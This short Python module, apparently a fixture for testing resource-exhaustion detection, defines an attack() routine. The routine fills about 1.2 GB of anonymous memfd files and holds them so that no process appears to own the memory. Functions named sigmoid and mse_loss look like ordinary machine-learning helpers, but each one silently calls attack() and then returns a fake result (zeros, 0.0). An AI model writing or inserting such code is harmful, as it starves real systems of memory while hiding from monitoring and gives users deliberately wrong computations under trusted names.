"""Writes 1.2 GB into files in memory that are never mapped, so that no process seems to hold them.

aims: exhaust
"""

import os
import time

import numpy as np

HELD = []


def attack():
    end = time.monotonic() + 20
    part = bytes(10 * 2**20)
    try:
        while len(HELD) < 12:
            HELD.append(os.memfd_create(f"balloon-{len(HELD)}"))
            for _ in range(10):
                os.write(HELD[-1], part)
    except (OSError, AttributeError):
        pass
    while HELD and time.monotonic() < end:
        time.sleep(0.5)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
